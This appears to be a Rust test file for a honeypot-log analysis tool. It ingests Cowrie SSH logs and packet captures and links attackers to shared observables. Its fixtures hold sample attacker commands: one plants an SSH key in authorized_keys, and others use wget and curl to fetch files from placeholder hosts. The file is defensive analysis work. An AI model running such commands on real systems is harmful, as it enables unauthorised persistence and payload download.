//! What was seen with attackers, from their logs.

use std::io::Write as _;
use std::process::Stdio;

use crate::program::{Place, line, sample};

/// Each line of the log once more, the last first, in two files: the same attackers, sessions and observables.
#[test]
fn order_pieces_and_replay_do_not_matter() {
    let (clean, other) = (Place::new(), Place::new());
    let text = String::from_utf8(sample()).unwrap();
    clean.say(&["ingest", &clean.write("cowrie.json", text.as_bytes())]);

    let mut lines: Vec<&str> = text.lines().collect();
    lines.reverse();
    let (late, early) = lines.split_at(lines.len() / 3);
    for (name, part) in [("a.json", early), ("b.json", late), ("c.json", early)] {
        other.say(&["ingest", &other.write(name, (part.join("\n") + "\n").as_bytes())]);
    }
    let tables = [
        "SELECT hex(uid) || ip || first_seen || last_seen || event_count AS it FROM attacker",
        "SELECT name || coalesce(service, '') || event_count || first_seen || last_seen AS it FROM session",
        "SELECT o.value || a.ip || s.event_count || s.first_seen || s.last_seen AS it FROM observable o \
         JOIN sighting s ON s.observable = o.id JOIN attacker a ON a.id = s.attacker",
        "SELECT o.value || s.name AS it FROM observable o JOIN session_observable i ON i.observable = o.id \
         JOIN session s ON s.id = i.session",
    ];
    for table in tables {
        let whole = format!("SELECT group_concat(it, char(10)) FROM ({table} ORDER BY it)");
        let (one, two) = (clean.ask(&whole), other.ask(&whole));
        assert!(one.len() > 1000 && one == two, "{table}");
    }
    let listed = |place: &Place| place.say(&["observables", "--format", "jsonl", "--limit", "100000"]);
    assert_eq!(listed(&clean), listed(&other));
}

#[test]
fn what_several_have_is_listed_with_who_has_it() {
    let place = Place::new();
    let line = |ip: &str, session: &str, input: &str| {
        format!(
            "{{\"eventid\":\"cowrie.command.input\",\"input\":{input:?},\"timestamp\":\"2026-11-24T15:22:01.5Z\",\
             \"src_ip\":\"{ip}\",\"session\":\"{session}\",\"sensor\":\"d1\"}}\n"
        )
    };
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKXri0BdHOWm7gj1Wdttx+Pls8TDQqs1d5o0/xmq/Abi";
    let log = [
        line("192.0.2.1", "s1", &format!("echo {key} a >> ~/.ssh/authorized_keys")),
        line(
            "192.0.2.2",
            "s2",
            &format!("cd ~ && echo '{key} b'>.ssh/authorized_keys; wget http://203.0.113.9/x"),
        ),
        line("192.0.2.2", "s2", "curl http://203.0.113.8/y"),
    ];
    place.say(&["ingest", &place.write("cowrie.json", log.concat().as_bytes())]);
    let print = "SHA256:2bRVagrn8WI65rqzxuu1AJJnem0wIVEYz1MPhkmnKNs";
    let shared = place.say(&["observables", "--shared"]);
    assert!(shared.contains("ssh_key") && shared.contains(print), "{shared}");
    assert!(shared.ends_with("1 observable\n"), "{shared}");
    let who = place.say(&["observables", "--kind", "ssh_key", "--value", print]);
    assert!(
        who.contains("192.0.2.1")
            && who.contains("192.0.2.2")
            && who.contains("2 attackers\n")
            && who.contains("http://203.0.113.9/x"),
        "{who}"
    );
    let hosts = place.say(&["observables", "--kind", "host", "--attacker", "192.0.2.2"]);
    assert!(hosts.contains("203.0.113.8") && hosts.contains("203.0.113.9"), "{hosts}");

    let stranger = place.run(&["observables", "--attacker", "192.0.2.9"]);
    assert_eq!((stranger.status.code(), stranger.stdout.is_empty()), (Some(1), true));
    let said = String::from_utf8_lossy(&stranger.stderr).into_owned();
    assert_eq!(said, "vespid: no event of 192.0.2.9 in sqlite:vespid.db\n");
    let unknown = place.run(&["observables", "--kind", "url", "--value", "http://203.0.113.7/"]);
    assert_eq!(unknown.status.code(), Some(1));
    let said = String::from_utf8_lossy(&unknown.stderr).into_owned();
    assert!(said.contains("no url") && said.contains("vespid observables --kind url"), "{said}");
}

/// Packets instead of a log: from a file, and from a program that captures.
#[test]
fn a_capture_shows_clients_and_leaks() {
    let capture = include_bytes!("../../../ingest/tests/captures/lab.pcap");
    let (file, pipe) = (Place::new(), Place::new());
    let path = file.write("lab.pcap", capture);
    let first = file.say(&["ingest", &path]);
    assert_eq!(line(&first, "events"), "4 new, 0 already known");
    assert_eq!(line(&file.say(&["ingest", "--reread", &path]), "events"), "0 new, 4 already known");
    let leaks = "SELECT ipv6_leak_count || last_ipv6_link_local || last_ipv6_iid_kind || last_ipv6_mac_oui FROM attackers";
    assert_eq!(
        file.ask(leaks),
        format!("{:?}", rusqlite::types::ValueRef::from("1fe80::200:5eff:fe00:5301eui6400:00:5e"))
    );
    assert!(file.tags().iter().any(|tag| tag.contains(r#""source_kind":"ipv6_leak""#)));
    let seen = file.say(&["observables", "--attacker", "192.0.2.9"]);
    for value in
        ["SSH-2.0-OpenSSH_9.2p1", "472b5de333ad665af5cbf10ff892c4df", "t13d3112h2_", "0200:5eff:fe00:5301"]
    {
        assert!(seen.contains(value), "{seen}");
    }

    let mut child =
        pipe.command(&["ingest", "-"]).stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    for part in capture.chunks(7) {
        stdin.write_all(part).unwrap();
    }
    drop(stdin);
    assert!(child.wait().unwrap().success());
    assert_eq!(pipe.tags(), file.tags());

    // A decoy is no attacker.
    let own = Place::new();
    let path = own.write("lab.pcap", capture);
    assert_eq!(
        line(&own.say(&["ingest", "--own", "192.0.2.0/24", &path]), "events"),
        "0 new, 0 already known"
    );
}
